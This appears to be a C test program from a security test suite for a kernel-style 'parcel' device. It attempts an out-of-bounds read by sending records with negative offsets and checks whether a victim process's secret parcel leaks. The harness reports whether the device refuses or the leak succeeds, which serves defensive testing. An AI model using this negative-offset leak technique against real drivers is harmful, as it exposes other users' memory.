// SPDX-License-Identifier: GPL-2.0-only
/*
 * A record that begins before the parcel: its offset is found small enough because it is negative,
 * and reading the record then reads what lies in front, a victim's parcels.
 */
#define _GNU_SOURCE
#include <string.h>

#include "attack.h"

#define SIZE		64	/* bytes of a parcel: its neighbours have the same size */
#define ROUNDS		12
#define NEIGHBOURS	16	/* parcels of the victim around each of the attacker's */
#define BEFORE		960	/* bytes */

static long send_secret(struct victim_state *state, int command)
{
	(void)command;
	return parcel_send(state->file, state->box, state->secret, SIZE, NULL, 0);
}

int main(int argc, char **argv)
{
	const struct parcel_record good = { .offset = SIZE / 2, .length = SIZE / 2 };
	struct parcel_record record = { .length = SIZE };
	char bytes[SIZE], mine[SIZE] = "mine";
	struct victim victim;
	char secret[SECRET_SIZE];
	int file, i, j, result;
	__u32 box, parcel;

	attack_begin(argc, argv);
	victim_start(&victim, send_secret);
	victim_secret(&victim, secret);
	file = device_open();
	box = private_box(file);
	must("send a record", parcel_send(file, box, mine, SIZE, &good, 1));
	parcel = parcel_take(file, box);
	must("read it", parcel_read_record(file, parcel, 0, bytes, SIZE));

	for (i = 0; i < ROUNDS; i++) {
		for (j = 0; j < NEIGHBOURS; j++)
			must("let the victim send", victim_do(&victim, 0));
		for (j = SIZE; j <= BEFORE; j += SIZE) {
			record.offset = -j;
			result = parcel_send(file, box, mine, SIZE, &record, 1);
			if (result < 0)
				refused("%s", error_name(result));
			parcel = parcel_take(file, box);
			must("read a record", parcel_read_record(file, parcel, 0, bytes, SIZE));
			must("close it", handle_close(file, parcel));
			if (!memcmp(bytes, secret, SIZE))
				achieved("leaks", "another's parcel, %d bytes before mine: \"%s\"",
					 j, bytes);
		}
	}
	achieved("leaks", "read up to %d bytes before my parcel, nobody's parcel there", BEFORE);
}
